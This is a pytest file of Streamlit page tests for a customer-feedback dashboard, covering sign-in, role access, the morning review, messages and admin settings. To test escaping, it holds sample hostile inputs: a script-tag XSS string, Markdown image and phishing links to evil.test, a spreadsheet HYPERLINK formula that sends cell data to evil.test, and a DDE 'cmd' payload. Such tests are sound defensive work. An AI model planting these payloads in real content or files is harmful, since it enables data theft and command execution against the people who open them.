"""Page tests (AppTest) for the app shell, the morning review, messages and admin pages.

Each test runs the real entry point `dashboard/app.py` against its own database (a temp SQLite
file, or a separate PostgreSQL database next to TEST_POSTGRES_URL), signs a user in through
the `auth_user_id` session key (server-side state, the same key the sign-in form sets), and
after each click asserts on the database, not only on the screen.
"""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
import streamlit as st
from sqlmodel import Session, select
from streamlit.testing.v1 import AppTest

from dashboard import data
from db import signins
from db import workflow as wf
from db.auth import authenticate
from db.clock import day_start, previous_workday
from db.models import (
    Comment,
    Event,
    Forward,
    Item,
    Mailbox,
    Message,
    Outbox,
    Quarantine,
    Role,
    Setting,
    Theme,
    User,
)
from db.users import change_password, create_user, set_password
from tests.factories import NOW, make_message, set_time_zone

APP = Path(__file__).resolve().parents[1] / "dashboard" / "app.py"
PASSWORD = "correct horse battery"
POSTGRES_URL = os.environ.get("TEST_POSTGRES_URL", "").strip()


def user(s: Session, role: str, *, email: str | None = None, name: str | None = None, team=None):
    """Create a user of `role` with the test password."""
    return create_user(
        s,
        email=email or f"{role}@example.com",
        name=name or f"{role.title()} Person",
        role=role,
        team=team,
        password=PASSWORD,
        now=NOW,
    )


def app(as_user: User | None = None, page: str | None = None, check=True, **query) -> AppTest:
    """Run the app (optionally signed in as `as_user`, on `page`) and return the AppTest.

    `check` asserts the page raised nothing (off where the page belongs to another helper).
    """
    at = AppTest.from_file(str(APP), default_timeout=60)
    if as_user is not None:
        at.session_state["auth_user_id"] = as_user.id
    at.query_params.update(query)
    at.run()
    if page:
        at.switch_page(f"app_pages/{page}.py").run()
    assert not (check and at.exception), at.exception
    return at


def texts(elements) -> list[str]:
    return [e.value for e in elements]


# --- sign-in --------------------------------------------------------------------------------


def test_anonymous_visitor_gets_the_sign_in_page_and_the_public_log(db):
    at = app()
    assert texts(at.title) == ["Sign in"]
    at.switch_page("app_pages/changes.py").run()
    assert "Sign in to see this page." not in texts(at.info)  # the public page itself ran
    assert "login_email" not in [w.key for w in at.text_input]
    assert "auth_user_id" not in at.session_state


def test_a_fresh_database_says_how_to_create_the_first_user(db):
    at = app()
    assert any("feedbackloop user add" in i for i in texts(at.info))
    user(db, Role.ADMIN)
    st.cache_data.clear()
    assert not any("feedbackloop user add" in i for i in texts(app().info))


def sign_in(at: AppTest, email: str, password: str) -> AppTest:
    at.text_input(key="login_email").input(email)
    at.text_input(key="login_password").input(password)
    at.button(key="login_go").click().run()
    return at


def test_sign_in_with_the_right_password_opens_the_roles_start_page(db):
    ceo = user(db, Role.EXECUTIVE)
    at = sign_in(app(), "EXECUTIVE@example.com", PASSWORD)
    assert at.session_state["auth_user_id"] == ceo.id
    assert texts(at.title) == ["Morning review"]


def test_sign_in_with_a_wrong_password_shows_the_domain_message(db):
    user(db, Role.EXECUTIVE)
    at = sign_in(app(), "executive@example.com", "not the password")
    assert texts(at.error) == ["Wrong email or password."]
    assert "auth_user_id" not in at.session_state


def test_an_empty_sign_in_form_asks_for_both_rather_than_calling_them_wrong(db):
    user(db, Role.EXECUTIVE)
    at = sign_in(app(), "", "")
    assert texts(at.error) == ["Enter your email and password."]


def test_a_link_to_an_item_that_does_not_exist_says_so(db):
    at = AppTest.from_file(str(APP), default_timeout=60)
    at.session_state["auth_user_id"] = user(db, Role.EXECUTIVE).id
    at.switch_page("app_pages/item.py")  # as a deep link opens it
    at.query_params["item"] = "999"
    at.run()
    assert texts(at.info) == ["There is no item #999. Open one from the Items board."]


def test_anonymous_deep_link_asks_to_sign_in_and_then_shows_the_page(db):
    user(db, Role.EXECUTIVE)
    at = app(page="messages")
    assert "Sign in to see this page." in texts(at.info)
    at = sign_in(at, "executive@example.com", PASSWORD)
    assert texts(at.title) == ["Messages"]
    assert not at.warning


def test_a_deactivated_user_is_signed_out_on_the_next_run(db):
    manager = user(db, Role.MANAGER)
    at = app(manager, page="inbox", check=False)
    assert at.session_state["auth_user_id"] == manager.id
    db.exec(sa.update(User).where(User.id == manager.id).values(is_active=False))
    db.commit()
    at.run()
    assert "auth_user_id" not in at.session_state
    assert "Sign in to see this page." in texts(at.info)


@pytest.mark.parametrize("revoke", ["new password", "admin sets one", "signed out elsewhere"])
def test_a_tab_whose_sign_in_was_revoked_is_signed_out_on_the_next_run(db, revoke):
    manager = user(db, Role.MANAGER)
    admin = user(db, Role.ADMIN)
    tab = sign_in(app(), manager.email, PASSWORD)
    assert tab.session_state["auth_user_id"] == manager.id
    if revoke == "new password":  # changed in another browser
        change_password(db, manager.id, current=PASSWORD, new="a much longer one 42", now=NOW)
    elif revoke == "admin sets one":
        set_password(db, manager.id, password="reset by the admin 42", actor=admin, now=NOW)
    else:  # the same browser's other tab signs out: its remembered sign-in is forgotten
        signins.forget(db, tab.session_state["auth_token"])
    tab.run()
    assert "auth_user_id" not in tab.session_state
    assert "Sign in to see this page." in texts(tab.info) or tab.text_input(key="login_email")


def test_sign_out_forgets_the_user(db):
    at = app(user(db, Role.STAFF), check=False)
    at.button(key="app_signout").click().run()
    assert "auth_user_id" not in at.session_state


# --- navigation per role --------------------------------------------------------------------

PAGE_FILES = ["review", "inbox", "items", "item", "insights", "messages", "admin", "changes"]
ALLOWED = {
    Role.STAFF: {"changes", "items"},
    Role.MANAGER: {"inbox", "items", "item", "insights", "changes"},
    Role.EXECUTIVE: {"review", "inbox", "items", "item", "insights", "messages", "changes"},
    Role.ADMIN: {"admin", "messages", "changes"},
}
NOT_AVAILABLE = "This page is not available for your role."


@pytest.mark.parametrize("role", list(ALLOWED))
def test_each_role_reaches_exactly_its_pages(db, role):
    me = user(db, role)
    at = app(me, check=False)
    for page in PAGE_FILES:
        at.switch_page(f"app_pages/{page}.py").run()
        refused = NOT_AVAILABLE in texts(at.warning)
        assert refused == (page not in ALLOWED[role]), (role, page)


def test_staff_cannot_open_the_morning_review_by_url(db):
    make_message(db, body="Screen went black", score=90, reasons=["reach: 8.9M followers"])
    at = app(user(db, Role.STAFF), page="review", check=False)
    assert NOT_AVAILABLE in texts(at.warning)
    assert not at.text and not at.date_input  # the page itself never ran


def test_staff_cannot_open_an_item_by_deep_link(db):
    at = app(user(db, Role.STAFF), page="item", check=False, item="1")
    assert NOT_AVAILABLE in texts(at.warning)
    assert texts(at.title) == ["Item"]


# --- morning review -------------------------------------------------------------------------


@pytest.fixture
def feed(db):
    """An executive, a manager, an open item, and two notable messages of NOW's day."""
    ceo = user(db, Role.EXECUTIVE, name="Erin Cole")
    mara = user(db, Role.MANAGER, name="Mara Lind", team="Charging")
    black = make_message(
        db,
        body="Help! My screen went black <script>alert(1)</script> ![x](http://evil.test/a.png)",
        subject="Screen went black",
        score=95.0,
        reasons=["reach: 8.9M followers"],
        received_at=NOW - timedelta(hours=1),
    )
    parking = make_message(
        db,
        body="Cars parked at the chargers again, nobody moves them.",
        subject="Charging stalls used as parking",
        score=60.0,
        reasons=["churn risk"],
        received_at=NOW - timedelta(hours=2),
    )
    item = Item(title="Stall etiquette", created_by_id=ceo.id, created_at=NOW, updated_at=NOW)
    db.add(item)
    db.commit()
    return dict(ceo=ceo, mara=mara, black=black, parking=parking, item=item)


def review(feed) -> AppTest:
    at = app(feed["ceo"], page="review")
    at.toggle(key="review_since").set_value(False).run()  # one day, not since the last workday
    at.date_input(key="review_day").set_value(NOW.date()).run()
    assert not at.exception, at.exception
    return at


def open_action(at: AppTest, message: Message, label: str) -> str:
    """Pick one action on the card led by `message`, as a click would; return the card key."""
    key = f"review_{message.id}"
    at.button_group(key=f"{key}_action").set_value(label).run()
    assert not at.exception, at.exception
    return key


def submit(at: AppTest, button_key: str) -> AppTest:
    at.button(key=button_key).click().run()
    assert not at.exception, at.exception
    return at


def test_review_page_shows_each_card_with_inert_text(feed):
    at = review(feed)
    bodies = texts(at.text)
    assert any("<script>alert(1)</script>" in b for b in bodies)
    assert any("Cars parked at the chargers" in b for b in bodies)
    assert not any("evil.test" in m for m in texts(at.markdown))


def test_cards_under_the_notable_score_come_after_a_line_that_says_so(feed, db):
    make_message(db, body="The app is a bit slow today.", score=1.0, reasons=["complaint: slow"],
                 received_at=NOW - timedelta(hours=3))  # fmt: skip
    at = review(feed)
    line = [c.value for c in at.caption if "Below the notable line" in c.value]
    assert line == [
        ":material/low_priority: Below the notable line (score under 5): a glance if there is time."
    ]
    order = [m.value for m in at.markdown if m.value.startswith("**")]
    assert order[-1].startswith("**The app is a bit slow")  # the weakest card comes last


def test_a_theme_card_shows_the_subject_of_its_most_notable_message(feed, db):
    theme = Theme(key="fleet+queue", label="Fleet drivers queueing at chargers",
                  message_count=2, first_seen=NOW, last_seen=NOW, created_at=NOW)  # fmt: skip
    db.add(theme)
    db.commit()
    for n, subject in enumerate(["Fleet customer: lost driver hours *now*", "Queues again"]):
        make_message(db, subject=subject, body="Our vans queue behind parked cars.",
                     score=30.0 - n, reasons=["complaint: lost"], theme_id=theme.id,
                     received_at=NOW - timedelta(minutes=30 + n))  # fmt: skip
    at = review(feed)
    shown = [m.value for m in at.markdown]
    at_theme = shown.index("**Fleet drivers queueing at chargers**")
    from dashboard.ui import escape_md

    subject = f"**{escape_md('Fleet customer: lost driver hours *now*')}**"  # inert Markdown
    assert shown[at_theme + 1 :].count(subject) == 1
    assert "**Screen went black**" in shown  # a single message's subject is its title, once
    assert shown.count("**Screen went black**") == 1


def test_forward_from_a_card_records_the_forward_and_triage(feed, db):
    at = review(feed)
    key = open_action(at, feed["black"], "Forward")
    assert at.date_input(key=f"{key}_fwd_by").help.startswith("By 17:00 that day (UTC)")
    at.selectbox(key=f"{key}_fwd_to").set_value(feed["mara"].id)
    submit(at, f"{key}_fwd_go")
    fwd = db.exec(select(Forward)).one()
    assert (fwd.recipient_id, fwd.note, fwd.message_id) == (feed["mara"].id, "?", feed["black"].id)
    assert fwd.respond_by.hour == 17  # as the form's help says: 17:00 UTC that day
    db.expire_all()
    assert db.get(Message, feed["black"].id).triage == "forwarded"


def test_review_days_and_due_times_are_the_company_s(feed, db):
    set_time_zone(db, "America/Los_Angeles")  # NOW's messages arrived on the 19th there
    at = app(feed["ceo"], page="review")
    at.toggle(key="review_since").set_value(False).run()
    at.date_input(key="review_day").set_value(NOW.date()).run()
    assert not any("Screen went black" in t for t in texts(at.markdown))
    at.date_input(key="review_day").set_value(NOW.date() - timedelta(days=1)).run()
    assert any("Screen went black" in t for t in texts(at.markdown))
    key = open_action(at, feed["black"], "Forward")
    help_text = at.date_input(key=f"{key}_fwd_by").help
    assert help_text.startswith("By 17:00 that day (America/Los_Angeles)")
    at.selectbox(key=f"{key}_fwd_to").set_value(feed["mara"].id)
    submit(at, f"{key}_fwd_go")
    due = db.exec(select(Forward.respond_by)).one()
    assert due.astimezone(ZoneInfo("America/Los_Angeles")).hour == 17


def test_comment_from_a_card_is_stored(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "Comment")
    at.text_area(key=f"{key}_cmt_body").input("Who owns chargers?")
    submit(at, f"{key}_cmt_go")
    comment = db.exec(select(Comment)).one()
    assert (comment.body, comment.message_id) == ("Who owns chargers?", feed["parking"].id)
    assert f"{key}_cmt_body" not in [w.key for w in at.text_area]  # the form folded away


def test_a_comment_stays_visible_on_its_card_with_its_author(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "Comment")
    at.text_area(key=f"{key}_cmt_body").input("Who owns chargers?")
    submit(at, f"{key}_cmt_go")
    assert "Who owns chargers?" in texts(at.text)
    assert any("Erin Cole" in c for c in texts(at.caption))
    for n in range(3):
        key = open_action(at, feed["parking"], "Comment")
        at.text_area(key=f"{key}_cmt_body").input(f"Follow-up {n}")
        submit(at, f"{key}_cmt_go")
    shown_notes = [t for t in texts(at.text) if t.startswith(("Who owns", "Follow-up"))]
    assert shown_notes == ["Follow-up 1", "Follow-up 2"]  # the latest two, not all four
    assert "2 earlier comments" in texts(at.caption)


def test_new_item_from_a_card_links_the_message(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "New item")
    assert at.text_input(key=f"{key}_new_title").value == "Charging stalls used as parking"
    submit(at, f"{key}_new_go")
    item = db.exec(select(Item).where(Item.title == "Charging stalls used as parking")).one()
    db.expire_all()
    assert db.get(Message, feed["parking"].id).item_id == item.id
    assert [t.value for t in at.toast] == [f"Created item #{item.id}: find it on the Items board."]


def test_a_new_item_from_a_long_post_suggests_its_whole_text_not_the_cut_title(feed, db):
    body = ("We run 14 Voltras in our delivery fleet and lost three driver-hours this week "
            "queueing behind parked-up cars at Voltra Charge.")  # fmt: skip
    post = make_message(db, body=body, channel="tweet", subject=None, score=70.0,
                        reasons=["reach"], received_at=NOW - timedelta(hours=1))  # fmt: skip
    at = review(feed)
    assert any(m.endswith("…**") for m in texts(at.markdown))  # the card's title is cut
    key = open_action(at, post, "New item")
    assert at.text_input(key=f"{key}_new_title").value == body


def test_a_complaint_that_came_back_can_join_the_shipped_fix(feed, db):
    shipped = Item(title="Idle fee at the stalls", status="shipped", created_by_id=feed["ceo"].id,
                   created_at=NOW, updated_at=NOW)  # fmt: skip
    db.add(shipped)
    db.commit()
    at = review(feed)
    key = open_action(at, feed["parking"], "Add to item")
    picker = at.selectbox(key=f"{key}_add_item")
    label = f"#{shipped.id} Idle fee at the stalls · already shipped"
    assert picker.format_func(shipped.id) == label
    picker.set_value(shipped.id)
    submit(at, f"{key}_add_go")
    db.expire_all()
    assert db.get(Message, feed["parking"].id).item_id == shipped.id


def test_add_to_item_from_a_card_links_the_message(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "Add to item")
    at.selectbox(key=f"{key}_add_item").set_value(feed["item"].id)
    submit(at, f"{key}_add_go")
    db.expire_all()
    assert db.get(Message, feed["parking"].id).item_id == feed["item"].id


def test_the_added_to_toast_shows_an_item_title_as_text_not_markdown(feed, db):
    item = feed["item"]
    item.title = "Refund ![x](http://evil.test/a.png) [verify](http://evil.test/phish)"
    db.add(item)
    db.commit()
    at = review(feed)
    key = open_action(at, feed["parking"], "Add to item")
    at.selectbox(key=f"{key}_add_item").set_value(item.id)
    submit(at, f"{key}_add_go")
    [toast] = [t.value for t in at.toast]
    assert toast.startswith("Added to ") and "Refund" in toast
    assert "](http" not in toast and "![x]" not in toast  # no image fetched, no link to click


def test_dismiss_from_a_card_removes_it_from_the_feed(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "Dismiss")
    at.text_input(key=f"{key}_dis_reason").input("Already answered")
    submit(at, f"{key}_dis_go")
    db.expire_all()
    assert db.get(Message, feed["parking"].id).triage == "dismissed"
    assert not any("Cars parked at the chargers" in b for b in texts(at.text))


def test_dismiss_without_a_reason_shows_the_domain_error(feed, db):
    at = review(feed)
    key = open_action(at, feed["parking"], "Dismiss")
    submit(at, f"{key}_dis_go")
    assert at.error
    db.expire_all()
    assert db.get(Message, feed["parking"].id).triage == "new"


def test_mark_reviewed_asks_first_and_cancel_records_nothing(feed, db):
    at = review(feed)
    at.button(key="review_done").click().run()
    assert "Mark all 2 cards as reviewed?" in at.warning[0].value
    at.button(key="review_done_no").click().run()
    assert not at.warning and not db.exec(select(Event).where(Event.action == "reviewed")).all()


def test_mark_reviewed_records_a_review_event_per_message(feed, db):
    at = review(feed)
    at.button(key="review_done").click().run()
    at.button(key="review_done_yes").click().run()
    actions = db.exec(select(Event.entity_id).where(Event.action == "reviewed")).all()
    assert sorted(actions) == sorted([feed["black"].id, feed["parking"].id])


def test_empty_feed_says_the_inbox_is_clear(db):
    at = app(user(db, Role.EXECUTIVE), page="review")
    assert any("clear" in i for i in texts(at.info))


# --- messages -------------------------------------------------------------------------------


def test_messages_page_filters_by_channel_and_day(db):
    make_message(db, body="An email today", channel="email", received_at=NOW)
    make_message(db, body="A post today", channel="tweet", received_at=NOW)
    make_message(
        db, body="Body", subject="Hi", channel="email", received_at=NOW - timedelta(days=9)
    )
    make_message(db, body="An old email", channel="email", received_at=NOW - timedelta(days=3))
    at = app(user(db, Role.EXECUTIVE), page="messages")
    shown = list(at.dataframe[0].value["Message"])
    assert shown == ["A post today", "An email today", "An old email", "Hi — Body"]
    at.button_group(key="messages_channel").set_value("Email").run()
    assert sorted(at.dataframe[0].value["Message"]) == [
        "An email today",
        "An old email",
        "Hi — Body",
    ]
    at.date_input(key="messages_day").set_value(NOW.date()).run()
    assert list(at.dataframe[0].value["Message"]) == ["An email today"]


def test_grid_cells_a_spreadsheet_would_run_are_made_inert_for_the_csv_download(db):
    evil = '=HYPERLINK("http://evil.test/leak?"&A1,"Click")'
    make_message(db, body=evil, channel="email", received_at=NOW)
    make_message(db, body="@VoltraCare my car broke again!", channel="tweet", received_at=NOW)
    make_message(db, body="-2+3+cmd|' /C calc'!A0", channel="tweet", received_at=NOW)
    at = app(user(db, Role.EXECUTIVE), page="messages")
    shown = set(at.dataframe[0].value["Message"])
    assert shown == {"'" + evil, "@VoltraCare my car broke again!", "'-2+3+cmd|' /C calc'!A0"}


def test_a_message_on_an_item_says_so_and_links_to_the_item(feed, db):
    wf.attach(db, item_id=feed["item"].id, message_ids=[feed["parking"].id], actor=feed["ceo"],
              now=NOW)  # fmt: skip
    at = app(feed["ceo"], page="messages")
    grid = at.dataframe[0].value
    assert set(grid["Status"]) == {"on an item", "not handled"}  # not "linked" / "new"
    row = list(grid["Message"]).index(
        "Charging stalls used as parking — Cars parked at the chargers again, nobody moves them."
    )
    at.session_state["messages_table"] = {"selection": {"rows": [row], "columns": []}}
    at.run()
    links = [p for p in at.get("page_link") if "Open item" in p.label]
    assert [p.label for p in links] == [
        f"Open item #{feed['item'].id}, which this message is part of"
    ]


def test_an_executive_splits_a_wrongly_grouped_message_off_its_theme(db):
    theme = Theme(key="idle+stall", label="Idle cars at the chargers", message_count=2,
                  contact_count=2, first_seen=NOW, last_seen=NOW, created_at=NOW)  # fmt: skip
    db.add(theme)
    db.commit()
    odd = make_message(db, body="Can I charge at home from a normal plug?", channel="tweet",
                       received_at=NOW, theme_id=theme.id)  # fmt: skip
    make_message(db, body="Idle cars on the stalls", received_at=NOW - timedelta(hours=1),
                 theme_id=theme.id)  # fmt: skip
    at = app(user(db, Role.EXECUTIVE), page="messages")
    at.session_state["messages_table"] = {"selection": {"rows": [0], "columns": []}}
    at.run()
    assert "Theme: Idle cars at the chargers" in texts(at.caption)
    at.button(key="messages_split").click().run()
    assert not at.exception, at.exception
    db.expire_all()
    moved = db.get(Message, odd.id)
    assert moved.theme_id != theme.id
    assert db.get(Theme, moved.theme_id).key == f"split:{odd.id}"
    assert db.get(Theme, theme.id).message_count == 1


def test_a_selected_post_without_subject_reads_as_a_post_not_nan(db):
    make_message(db, body="Screen went black again", channel="tweet", received_at=NOW,
                 sender="widget_watcher", subject=None)  # fmt: skip
    at = app(user(db, Role.EXECUTIVE), page="messages")
    at.session_state["messages_table"] = {"selection": {"rows": [0], "columns": []}}
    at.run()
    assert not at.exception, at.exception
    heads = [m.value for m in at.markdown if m.value.startswith("**")]
    assert heads == ["**Post on X**"]
    detail = " ".join(texts(at.caption))
    assert "widget" in detail and "not handled" in detail and "nan" not in detail


# --- admin ----------------------------------------------------------------------------------


def admin_app(db) -> tuple[AppTest, User]:
    admin = user(db, Role.ADMIN)
    return app(admin, page="admin"), admin


def test_admin_adds_a_user(db):
    at, admin = admin_app(db)
    at.text_input(key="admin_new_name").input("Mara Lind")
    at.text_input(key="admin_new_email").input("mara@example.com")
    at.selectbox(key="admin_new_role").set_value("manager")
    at.text_input(key="admin_new_password").input(PASSWORD)
    at.button(key="admin_add_go").click().run()
    added = db.exec(select(User).where(User.email == "mara@example.com")).one()
    assert (added.name, added.role) == ("Mara Lind", "manager")
    created = select(Event.actor_id).where(Event.entity_id == added.id, Event.action == "created")
    assert db.exec(created).one() == admin.id  # the audit trail says which admin added her


def test_admin_deactivates_a_user_only_once_confirmed_then_reactivates_them(db):
    staff = user(db, Role.STAFF)
    at, _ = admin_app(db)
    at.selectbox(key="admin_access_user").set_value(staff.id).run()
    assert at.button(key="admin_access_go").label == "Deactivate"
    assert at.button(key="admin_access_go").disabled  # not before the box is ticked
    at.checkbox(key="admin_access_sure").check().run()
    at.button(key="admin_access_go").click().run()
    db.expire_all()
    assert db.get(User, staff.id).is_active is False
    at.selectbox(key="admin_access_user").set_value(staff.id).run()
    assert at.button(key="admin_access_go").label == "Reactivate"
    at.checkbox(key="admin_access_sure").check().run()
    at.button(key="admin_access_go").click().run()
    db.expire_all()
    assert db.get(User, staff.id).is_active is True
    actions = db.exec(select(Event.action).where(Event.entity_id == staff.id)).all()
    assert actions[-2:] == ["deactivated", "reactivated"]


def test_admin_sets_a_password_and_the_user_signs_in_with_it(db):
    staff = user(db, Role.STAFF)
    at, _ = admin_app(db)
    at.selectbox(key="admin_password_user").set_value(staff.id)
    at.text_input(key="admin_password_new").input("a fresh start 2026")
    at.button(key="admin_password_go").click().run()
    assert not at.error, [e.value for e in at.error]
    db.expire_all()
    signed = authenticate(db, email=staff.email, password="a fresh start 2026", now=NOW)
    assert signed.id == staff.id


def test_admin_sees_the_outgoing_email_with_what_was_given_up_on(db):
    mail = Outbox(kind="forward", dedupe_key="f1", to_addr="mara@example.com", subject="Fwd",
                  body_text="-", message_id_header="<1@x>", status="failed", attempts=8,
                  last_error="550 mailbox unavailable", next_attempt_at=NOW)  # fmt: skip
    db.add(mail)
    db.commit()
    at, _ = admin_app(db)
    assert "Outgoing e-mail" in [t.label for t in at.tabs]
    shown = at.dataframe[-1].value  # the last tab: outgoing e-mail
    assert shown["last error"].tolist() == ["550 mailbox unavailable"]
    at.button(key="admin_outbox_retry").click().run()
    assert not at.exception, at.exception
    db.expire_all()
    again = db.get(Outbox, mail.id)
    assert (again.status, again.attempts) == ("pending", 0)


def test_a_malformed_smtp_setting_is_named_on_the_outbox_tab(db, monkeypatch):
    monkeypatch.setenv("SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("SMTP_PORT", "abc")
    at, _ = admin_app(db)
    assert not at.exception, at.exception
    assert any("SMTP_PORT must be a number" in e.value for e in at.error)


def test_a_user_changes_their_own_password_after_confirming_the_current_one(db):
    at, me = admin_app(db)
    at.text_input(key="account_pw_current").input("not my password")
    at.text_input(key="account_pw_new").input("a better password 1")
    at.text_input(key="account_pw_again").input("a better password 1")
    at.button(key="account_pw_go").click().run()
    assert [e.value for e in at.error] == ["Your current password is not right."]
    at.text_input(key="account_pw_current").input(PASSWORD)
    at.text_input(key="account_pw_new").input("a better password 1")
    at.text_input(key="account_pw_again").input("a better password 1")
    at.button(key="account_pw_go").click().run()
    assert not at.error, [e.value for e in at.error]
    db.expire_all()
    assert authenticate(db, email=me.email, password="a better password 1", now=NOW).id == me.id
    assert at.session_state["auth_user_id"] == me.id  # still signed in here


def test_a_new_user_is_staff_unless_the_admin_picks_another_role(db):
    at, _ = admin_app(db)
    assert at.selectbox(key="admin_new_role").value == "staff"
    at.text_input(key="admin_new_name").input("Sam Reed")
    at.text_input(key="admin_new_email").input("sam@example.com")
    at.text_input(key="admin_new_password").input(PASSWORD)
    at.button(key="admin_add_go").click().run()
    assert db.exec(select(User.role).where(User.email == "sam@example.com")).one() == "staff"


def test_admin_saves_settings(db):
    at, _ = admin_app(db)
    at.text_area(key="admin_set_own_handles").input("@AcmeCars\nacme_help")
    at.number_input(key="admin_set_sla").set_value(2)
    at.button(key="admin_settings_go").click().run()
    stored = dict(db.exec(select(Setting.key, Setting.value)).all())
    assert stored == {"own_handles": ["acme_help", "acmecars"], "sla_ack_business_days": 2}


def test_admin_sets_the_company_time_zone(db):
    at, _ = admin_app(db)
    assert at.selectbox(key="admin_set_zone").value == "UTC"
    at.selectbox(key="admin_set_zone").set_value("Europe/Paris")
    at.button(key="admin_settings_go").click().run()
    assert not at.exception, at.exception
    assert db.get(Setting, "time_zone").value == "Europe/Paris"


def test_admin_saves_theme_synonyms_and_a_malformed_line_saves_nothing(db):
    at, _ = admin_app(db)
    at.text_area(key="admin_set_synonyms").input("stall: Stall charger  bay")
    at.button(key="admin_settings_go").click().run()
    stored = dict(db.exec(select(Setting.key, Setting.value)).all())
    assert stored == {"theme_synonyms": ["stall: stall charger bay"]}
    at.text_area(key="admin_set_synonyms").input("stall charger bay")
    at.text_area(key="admin_set_own_handles").input("acme_help")
    at.button(key="admin_settings_go").click().run()
    assert "line 1" in at.error[0].value
    db.expire_all()  # nothing of the form is saved, not even the good handle
    assert db.get(Setting, "theme_synonyms").value == ["stall: stall charger bay"]
    assert db.get(Setting, "own_handles") is None


def test_admin_lists_quarantine_with_a_download_of_the_raw_bytes(db):
    db.add(Quarantine(source="bad.json", reason="invalid JSON at line 3", raw=b"{oops"))
    db.commit()
    at, _ = admin_app(db)
    assert list(at.dataframe[1].value["reason"]) == ["invalid JSON at line 3"]
    assert at.get("download_button")


def test_a_rejected_upload_points_to_the_quarantine_by_file_name(db):
    at, _ = admin_app(db)
    at.file_uploader(key="admin_upload").upload("bad.csv", b"not,known\nx,y\n", "text/csv").run()
    at.button(key="admin_import_go").click().run()
    assert not at.exception, at.exception
    assert any("Quarantine tab" in i.value for i in at.info)
    grid = at.dataframe[1].value
    assert list(grid["file"]) == ["bad.csv"]  # not the temporary copy's path


def test_admin_imports_an_uploaded_file(db):
    tweets = (
        b'{"data": [{"id": "1850000000000000001", "text": "My screen went black",'
        b' "author_id": "42", "created_at": "2026-11-20T07:00:00.000Z"}],'
        b' "includes": {"users": [{"id": "42", "username": "kim", "name": "Kim"}]}}'
    )
    at, admin = admin_app(db)
    at.file_uploader(key="admin_upload").upload("tweets.json", tweets, "application/json").run()
    at.button(key="admin_import_go").click().run()
    assert not at.exception, at.exception
    assert db.exec(select(Message.external_id)).all() == ["1850000000000000001"]
    assert [m.value for m in at.metric][:1] == ["1"]
    audit = db.exec(select(Event.actor_id, Event.data).where(Event.entity == "import")).one()
    assert audit == (admin.id, {**audit[1], "files": ["tweets.json"], "imported": 1})


def test_the_feed_opens_on_what_came_since_the_last_working_day_then_the_last_review(db):
    ceo = user(db, Role.EXECUTIVE)
    now = datetime.now(UTC)  # the page reads the real clock
    since = day_start(previous_workday(now, UTC), UTC)
    minute = timedelta(minutes=1)
    make_message(db, body="Car lost power on the motorway with my children inside.",
                 score=60.0, reasons=["safety"], received_at=since + minute)  # fmt: skip
    make_message(db, body="Older news about a charger.", score=60.0, reasons=["complaint"],
                 received_at=since - minute)  # fmt: skip
    at = app(ceo, page="review")
    toggle = at.toggle(key="review_since")
    assert toggle.value and toggle.label == "Since the last working day"
    shown = " ".join(texts(at.markdown))  # a short post is its card's title
    assert "lost power" in shown and "Older news" not in shown
    at.button(key="review_done").click().run()
    at.button(key="review_done_yes").click().run()
    assert at.toggle(key="review_since").value
    assert any("your last review: just now" in c for c in texts(at.caption))
    assert "lost power" not in " ".join(texts(at.markdown))  # reviewed: gone from the feed


def test_every_moment_is_written_one_way():
    from datetime import UTC, datetime

    from dashboard.ui import stamp

    at = datetime(2026, 11, 21, 14, 5, tzinfo=UTC)
    assert stamp(at) == "21 Nov 2026 14:05 UTC"
    assert stamp(at, weekday=True) == "Sat 21 Nov 2026 14:05 UTC"
    assert stamp(at, zone=False) == "21 Nov 2026 14:05"
    assert stamp(None) == ""


def test_escape_md_leaves_no_markup_and_breaks_autolinks():
    from dashboard.ui import escape_md

    out = escape_md("![x](http://a.example) www.b.example c@d.example <b>")
    plain = out.replace("\u2060", "")
    assert "www." not in out and "@d" not in out and "://" not in out
    assert plain.replace("\\", "") == "![x](http://a.example) www.b.example c@d.example <b>"


def test_admin_sees_each_mailbox_fetched_and_why_its_last_fetch_stopped(db):
    at, _ = admin_app(db)
    assert any("feedbackloop fetch imaps://" in c.value for c in at.caption)  # how to start
    box = "support@acme.test@imap.acme.test/INBOX"
    db.add(Mailbox(key=box, uidvalidity=7, last_uid=120, fetched=120, fetched_at=NOW,
                   last_error="imap.acme.test: no answer"))  # fmt: skip
    db.add(Quarantine(source="imaps://support@acme.test@imap.acme.test/INBOX", locator="uid 9",
                      reason="not an email message", raw=b"?"))  # fmt: skip
    db.commit()
    data.clear_caches()  # as an import does
    at.run()
    frames = {tuple(f.value.columns): f.value for f in at.dataframe}
    boxes = frames[("mailbox", "fetched_at", "fetched", "last_error")]
    assert boxes.iloc[0].to_dict() | {"fetched_at": None} == {
        "mailbox": box, "fetched_at": None, "fetched": 120,
        "last_error": "imap.acme.test: no answer"}  # fmt: skip
    quarantined = next(f for cols, f in frames.items() if "locator" in cols)
    assert list(quarantined["file"]) == ["imaps://support@acme.test@imap.acme.test/INBOX"]


def test_admin_is_warned_while_links_in_emails_point_to_localhost(db, monkeypatch):
    monkeypatch.delenv("FL_BASE_URL", raising=False)
    at, _ = admin_app(db)
    assert any("point to http://localhost:8501" in w.value for w in at.warning)
    at.text_input(key="admin_set_url").input("https://feedback.voltra.example")
    at.button(key="admin_settings_go").click().run()
    assert not any("point to http://localhost" in w.value for w in at.warning)
